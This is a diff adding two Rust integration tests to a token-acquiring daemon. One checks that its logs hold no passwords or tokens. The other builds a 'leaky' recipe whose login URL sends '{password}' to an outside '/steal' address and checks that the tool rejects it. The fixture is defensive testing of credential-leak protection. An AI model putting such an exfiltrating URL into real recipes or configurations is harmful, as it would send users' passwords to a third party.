@@ -264,3 +264,97 @@ fn recipe_list_and_show_print_the_built_in_recipes() {
     let shown = String::from_utf8_lossy(&out.stdout);
     assert_eq!(shown, std::fs::read_to_string(example()).unwrap());
 }
+
+#[test]
+fn the_daemon_logs_the_trace_of_an_unrecognised_answer_and_never_a_secret() {
+    let dir = tempfile::tempdir().unwrap();
+    let portal = EdeliveryPortal::start();
+    portal.accept("alice", "pw-secret-2");
+    let config = common::write_config(
+        dir.path(),
+        &format!(
+            "[server]\nlisten = \"127.0.0.1:0\"\n{RETRY}{}",
+            site(dir.path(), &portal, &example())
+        ),
+    );
+    common::add_account(dir.path(), &config, "edelivery", "alice", "pw-secret-2");
+    // The account that meets the changed portal cools down: the other one logs in after.
+    portal.accept("bob", "pw-secret-2b");
+    common::add_account(dir.path(), &config, "edelivery", "bob", "pw-secret-2b");
+    let mut daemon = common::Daemon::start(dir.path(), &config);
+    let acquire = daemon.url("/api/v1/automation/tokens/acquire");
+    let post = |url: &str| {
+        let url = url.to_string();
+        actix_web::rt::System::new().block_on(async move {
+            let r = reqwest::Client::new()
+                .post(&url)
+                .json(&json!({"site_name": "edelivery"}))
+                .send()
+                .await
+                .unwrap();
+            (
+                r.status().as_u16(),
+                r.json::<serde_json::Value>().await.unwrap(),
+            )
+        })
+    };
+    *portal.state.canned_nonce.lock().unwrap() =
+        Some(json!({"code": 0, "data": {"nonceValue": "abc"}}));
+    let (status, body) = post(&acquire);
+    assert_eq!(status, 502, "{body}");
+    assert_eq!(body["errors"]["error_type"], "failed", "{body}");
+    let mut log = Vec::new();
+    common::eventually_blocking("the recipe's trace in the log", || {
+        log.extend(daemon.drain_log());
+        log.iter()
+            .any(|l| l.contains("event=recipe_trace") && l.contains("STOP: step `nonce`"))
+            .then_some(())
+    });
+    assert!(log
+        .iter()
+        .any(|l| l.contains("event=recipe_trace") && l.contains("step 1 `nonce`")));
+
+    *portal.state.canned_nonce.lock().unwrap() = None;
+    let (status, body) = post(&acquire);
+    assert_eq!(status, 200, "{body}");
+    let token = body["data"]["token"].as_str().unwrap().to_string();
+    common::eventually_blocking("the login's steps in the log", || {
+        log.extend(daemon.drain_log());
+        log.iter()
+            .any(|l| l.contains("event=recipe_step") && l.contains("step=login"))
+            .then_some(())
+    });
+    let (_, pwd) = portal.state.received.lock().unwrap()[0].clone();
+    let all = log.join("\n");
+    for secret in [token.as_str(), "pw-secret-2", pwd.as_str()] {
+        assert!(!secret.is_empty());
+        assert!(!all.contains(secret), "{secret} in the log:\n{all}");
+    }
+}
+
+#[test]
+fn a_recipe_cannot_send_anything_to_a_host_it_does_not_list() {
+    let dir = tempfile::tempdir().unwrap();
+    let portal = EdeliveryPortal::start();
+    portal.accept("alice", "pw-secret-3");
+    let leaky = std::fs::read_to_string(example()).unwrap().replace(
+        "url = \"/auth/login\"",
+        "url = \"http://127.0.0.2:9/steal?p={password}\"",
+    );
+    let recipe = dir.path().join("leaky.toml");
+    std::fs::write(&recipe, leaky).unwrap();
+    let config = common::write_config(
+        dir.path(),
+        &format!(
+            "{RETRY}{}",
+            site(dir.path(), &portal, &recipe.display().to_string())
+        ),
+    );
+    common::add_account(dir.path(), &config, "edelivery", "alice", "pw-secret-3");
+    let out = run(dir.path(), &config, &["recipe", "check", "edelivery"]);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(!out.status.success(), "{stdout}");
+    assert!(stdout.contains("is not on a host of the site"), "{stdout}");
+    assert!(!stdout.contains("pw-secret-3"), "{stdout}");
+    assert_eq!(EdeliveryPortal::count(&portal.state.logins), 0);
+}
